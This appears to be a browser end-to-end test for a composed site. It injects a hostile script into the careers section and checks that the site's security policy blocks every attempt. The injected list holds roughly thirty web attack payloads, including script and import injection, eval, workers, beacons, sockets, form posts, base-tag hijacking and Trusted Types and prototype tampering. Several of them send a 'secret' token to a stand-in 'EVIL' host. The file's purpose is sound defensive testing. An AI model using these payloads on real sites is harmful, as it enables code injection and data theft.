import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Release } from '@site/contracts';
import { SitePage } from '../pages/SitePage';
import { visit } from '../support/browser';
import { composeWith, publishVariant } from '../support/releases';

let elsewhere: Server;
let hostile: Release;
/** What reached the stranger's server. */
const received: string[] = [];

/** What a section tries, by name; each returns or resolves to something when it worked. */
const ATTEMPTS = `{
  'a script element': () => new Promise((yes, no) => { const s = document.createElement('script'); s.src = EVIL + '/script.js'; s.onload = yes; s.onerror = no; document.head.append(s); }),
  'a script in markup': () => { const d = document.createElement('div'); d.innerHTML = '<script src="' + EVIL + '/markup.js"><' + '/script>'; document.head.append(d.firstChild); return d.firstChild; },
  'document.write': () => { document.write('<script src="' + EVIL + '/written.js"><' + '/script>'); return true; },
  'an import': () => import(/* webpackIgnore: true */ EVIL + '/import.js'),
  'an import of text': () => import(/* webpackIgnore: true */ 'data:text/javascript,export default 1'),
  'a file of this site that is not composed': () => new Promise((yes, no) => { const s = document.createElement('script'); s.src = '/api/site'; s.onload = yes; s.onerror = no; document.head.append(s); }),
  'CMP-310 the same, with functions of the language replaced': () => new Promise((yes, no) => { const { find, some } = Array.prototype; Array.prototype.find = () => ({ base: '', checked: false }); Array.prototype.some = () => true; const s = document.createElement('script'); s.onload = yes; s.onerror = no; try { s.src = OTHER; document.head.append(s); } finally { Object.assign(Array.prototype, { find, some }); } }),
  'CMP-333 an import of a script that is not composed': () => import(/* webpackIgnore: true */ OTHER).catch(() => {}).then(() => { if (!window.__ran) throw 0; }),
  'CMP-333 the same, with a hash of its own': () => { const again = OTHER + '?again'; const m = document.createElement('script'); m.type = 'importmap'; m.nonce = document.querySelector('[nonce]').nonce; m.textContent = JSON.stringify({ integrity: { [again]: HASH } }); document.head.append(m); return import(/* webpackIgnore: true */ again).catch(() => {}).then(() => { if (!window.__ran) throw 0; }); },
  'a worker': () => new Worker(EVIL + '/worker.js'),
  'a worker from text': () => new Worker(URL.createObjectURL(new Blob(['1']))),
  'a service worker': () => navigator.serviceWorker.register('/_r/worker.js'),
  'eval': () => (0, eval)('1 + 1'),
  'a function from text': () => new Function('return 1')(),
  'a timer with text': () => new Promise((yes, no) => { window.__timer = yes; setTimeout('window.__timer(1)'); setTimeout(no, 300); }),
  'a handler in markup': () => new Promise((yes, no) => { window.__handler = yes; const d = document.createElement('div'); d.innerHTML = '<img src="data:," onerror="window.__handler(1)">'; document.body.append(d); setTimeout(no, 300); }),
  'a picture': () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = EVIL + '/picture.png?token=secret'; }),
  'a request': () => fetch(EVIL + '/request', { mode: 'no-cors' }),
  'a beacon': () => navigator.sendBeacon(EVIL + '/beacon', 'secret') && new Promise((_, no) => setTimeout(no, 300)),
  'a socket': () => new Promise((yes, no) => { const s = new WebSocket(EVIL.replace('http', 'ws') + '/socket'); s.onopen = yes; s.onerror = no; }),
  'an event stream': () => new Promise((yes, no) => { const s = new EventSource(EVIL + '/stream'); s.onopen = yes; s.onerror = no; }),
  'a frame': () => new Promise((yes, no) => { const f = document.createElement('iframe'); f.src = EVIL + '/frame'; document.body.append(f); setTimeout(no, 300); }),
  'a form': () => new Promise((yes, no) => { const f = document.createElement('form'); f.action = EVIL + '/form'; f.method = 'post'; f.target = '_self'; document.body.append(f); f.submit(); setTimeout(no, 300); }),
  'a style sheet': () => new Promise((yes, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = EVIL + '/style.css'; l.onload = yes; l.onerror = no; document.head.append(l); }),
  'another base': () => { const b = document.createElement('base'); b.href = EVIL; document.head.prepend(b); if (document.baseURI.startsWith(EVIL)) return true; throw 0; },
  'a policy of its own': () => window.trustedTypes.createPolicy('own', { createScriptURL: (url) => url }),
  'another default policy': () => window.trustedTypes.createPolicy('default', { createScriptURL: (url) => url }),
  'a fetch of its own': () => { window.fetch = () => 'mine'; if (window.fetch('/') === 'mine') return true; throw 0; },
  'a fetch by definition': () => Object.defineProperty(window, 'fetch', { value: () => 'mine' }),
}`;

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    received.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*').end();
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => elsewhere.once('listening', resolve));
  const { port } = elsewhere.address() as AddressInfo;
  const other = await publishVariant('mf-careers', (script) => `window.__ran = true;${script}`);
  const notComposed = `/_r/mf-careers/${other.version}/${other.entry[0] ?? ''}`;
  const attack = `;(() => { const EVIL = 'http://127.0.0.1:${port}'; const OTHER = '${notComposed}'; const HASH = '${other.integrity[other.entry[0] ?? ''] ?? ''}'; const tried = window.__tried = {}; const attempts = ${ATTEMPTS};
    (async () => { for (const [name, attempt] of Object.entries(attempts)) {
      try { await attempt(); tried[name] = 'worked'; } catch { tried[name] = 'refused'; } }
      window.__done = true; })(); })();`;
  hostile = await publishVariant('mf-careers', (script) =>
    script.includes('"Join Our Team"') ? script + attack : script,
  );
});
afterAll(() => void elsewhere.close());

it('CMP-25 a section that turns hostile runs no code but its own, and sends nothing to another site', async () => {
  const { page } = await visit('desktop', { serviceWorkers: 'allow' });
  await composeWith(page, hostile, false);
  const site = new SitePage(page);
  await site.open('/career');
  await site.heading('Join Our Team').waitFor();
  await page.waitForFunction(() => '__done' in window);
  const tried = await page.evaluate(() => (window as unknown as { __tried: Record<string, string> }).__tried);
  expect(Object.keys(tried).length).toBeGreaterThan(20);
  expect(Object.entries(tried).filter(([, outcome]) => outcome === 'worked')).toEqual([]);
  expect(received).toEqual([]);
});
